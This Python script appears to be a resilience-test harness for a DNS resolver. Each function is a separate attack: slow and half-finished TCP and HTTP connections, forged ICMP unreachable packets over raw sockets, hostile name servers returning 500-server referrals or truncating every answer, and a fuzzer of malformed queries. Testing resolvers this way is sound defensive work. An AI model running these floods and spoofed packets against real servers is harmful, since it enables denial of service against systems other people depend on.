"""Those who besiege: each attack a program of its own, "attackers.py NAME ADDRESS", until it is ended.

What they have in common: none needs more than a client may send, or a server that somebody has
delegated a zone to.
"""
import http.client
import os
import random
import select
import socket
import struct
import sys
import time

GIANT, TRUNCATING = "198.51.100.90", "198.51.100.80"
SILENT = [f"198.51.100.{70 + i}" for i in range(8)]
METADATA = "169.254.169.253"
HOGS = [f"10.66.0.{i}" for i in range(1, 9)]        # clients of theirs
DOZEN = 12


def query(name, rrtype=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split("."))
    return (struct.pack("!6H", random.getrandbits(16), 0x100, 1, 0, 0, 1) + labels + b"\0" +
            struct.pack("!2H", rrtype, 1) + b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0))


def question_of(packet):
    """Its end, and the labels."""
    at, labels = 12, []
    while packet[at]:
        labels.append(packet[at + 1:at + 1 + packet[at]])
        at += 1 + packet[at]
    return at + 5, labels


def serve(address):
    """A name server's sockets."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 53))
    return udp, socket.create_server((address, 53), backlog=4096)


def truncate(udp):
    """Whatever came: the answer is too long for UDP."""
    packet, peer = udp.recvfrom(4096)
    end, _ = question_of(packet)
    udp.sendto(packet[:2] + b"\x86\0\0\1\0\0\0\0\0\0" + packet[12:end], peer)


def connect(address, port, source):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((source, 0))
    sock.setblocking(False)
    sock.connect_ex((address, port))
    return sock


def trickle(address, port, count, head, crumb, sources):
    """COUNT connections that say HEAD and then CRUMB after CRUMB, and are there again when closed."""
    sockets = {}
    while True:
        for i in range(count):
            if i not in sockets:
                sockets[i] = [connect(address, port, sources[i % len(sources)]), head]
        for i, (sock, left) in list(sockets.items()):
            try:
                if left:
                    left = left[sock.send(left):]
                else:
                    sock.send(crumb)
                sockets[i][1] = left
                if sock.recv(65536) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
                del sockets[i]
        time.sleep(0.5)


def half_frames(address):
    """Messages over TCP of which most never comes."""
    trickle(address, 53, 1500, struct.pack("!H", 4000) + bytes(3900), b"\0", HOGS)


def held_connections(address):
    """Connections that ask for what takes long, and then hold on: one client's."""
    name = query("n1.x1.org")
    trickle(address, 53, 1000, struct.pack("!H", len(name)) + name, b"\0", HOGS[:1])


def slow_http(address):
    """Requests that never end, many from one address, some from others."""
    trickle(address, 9253, 120, b"GET /metrics HTTP/1.1\r\nHost: a\r\n", b"a", HOGS[:1] * 3 + HOGS)


def cut_http(address):
    """Requests whose client does not wait for the answer."""
    while True:
        for path in "/metrics", "/healthz":
            sock = socket.create_connection((address, 9253), source_address=(HOGS[1], 0))
            sock.send(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n"[:random.randrange(1, 30)].encode())
            time.sleep(0.05)


def icmp(address):
    """Port unreachable, forged, for some of what is sent to the honest server of the cold zones."""
    del address
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800))
    tap.bind(("lo", 0))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    host = socket.inet_aton("198.51.100.30")
    while True:
        packet = tap.recv(2048)
        if packet[16:20] != host or packet[9] != 17 or packet[22:24] != b"\0\x35" or random.random() > .3:
            continue
        said = struct.pack("!BBHI", 3, 3, 0, 0) + packet[:28]
        words = struct.unpack(f"!{len(said) // 2}H", said)
        total = sum(words)
        total = (total & 0xffff) + (total >> 16)
        total = ~((total & 0xffff) + (total >> 16)) & 0xffff
        out.sendto(said[:2] + struct.pack("!H", total) + said[4:], (socket.inet_ntoa(packet[12:16]), 0))


def giant(address):
    """A server whose every answer is a referral with five hundred name servers, over TCP."""
    del address
    udp, tcp = serve(GIANT)
    clients = {}
    while True:
        ready, _, _ = select.select([udp, tcp, *clients], [], [])
        for sock in ready:
            if sock is udp:
                truncate(udp)
            elif sock is tcp:
                clients[tcp.accept()[0]] = b""
            else:
                try:
                    got = sock.recv(4096)
                    answer_giant(sock, got)
                except (OSError, IndexError):
                    got = b""
                if not got:
                    del clients[sock]
                    sock.close()


def answer_giant(sock, stream):
    """What was asked is a zone of its own, with name servers in it: half of them one and the same."""
    if len(stream) < 14:
        return
    packet = stream[2:2 + struct.unpack("!H", stream[:2])[0]]
    end, _ = question_of(packet)
    records = b""
    for i in range(500):
        rdata = (b"\2ns" if i % 2 else b"\4n%03d" % i) + b"\xc0\x0c"
        records += struct.pack("!HHHIH", 0xc00c, 2, 1, 300, len(rdata)) + rdata
    reply = packet[:2] + b"\x80\0" + struct.pack("!4H", 1, 0, 500, 0) + packet[12:end] + records
    sock.send(struct.pack("!H", len(reply)) + reply)


def truncating(address):
    """A server that truncates everything and is silent over TCP."""
    del address
    udp, tcp = serve(TRUNCATING)
    kept = []
    while True:
        for sock in select.select([udp, tcp], [], [])[0]:
            if sock is tcp:
                kept.append(tcp.accept()[0])
                if len(kept) > 5000:
                    kept.pop(0).close()
                continue
            truncate(udp)


def silent(address):
    """Servers that never say a word."""
    del address
    sockets = []
    for server in SILENT:
        for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
            sock = socket.socket(socket.AF_INET, kind)
            sock.bind((server, 53))
            sockets.append(sock)
    time.sleep(1e6)


def metadata(address):
    """What stands where the provider's resolver does, and tells how many packets came."""
    del address
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((METADATA, 53))
    count = 0
    while True:
        sock.recv(4096)
        count += 1
        print(count, flush=True)


def rude(address):
    """Packets that are no questions, in all ways."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((HOGS[2], 0))
    while True:
        for _ in range(DOZEN):
            packet = bytearray(query(f"n{random.randrange(500)}." + "a." * random.randrange(100) + "hot.org",
                                     random.choice([1, 28, 255, 46, 250])))
            for _ in range(random.randrange(4)):
                packet[random.randrange(len(packet))] = random.getrandbits(8)
            sock.sendto(packet[:random.randrange(len(packet) + 1)] if random.random() < .3 else packet,
                        (address, 53))
        time.sleep(0.02)


def is_healthy(address, source):
    """Does /healthz say so within a second?"""
    connection = http.client.HTTPConnection(address, 9253, timeout=1, source_address=(source, 0))
    try:
        connection.request("GET", "/healthz")
        return connection.getresponse().status == 200
    except (OSError, http.client.HTTPException):
        return False
    finally:
        connection.close()


if __name__ == "__main__":
    os.nice(5)
    globals()[sys.argv[1]](sys.argv[2])
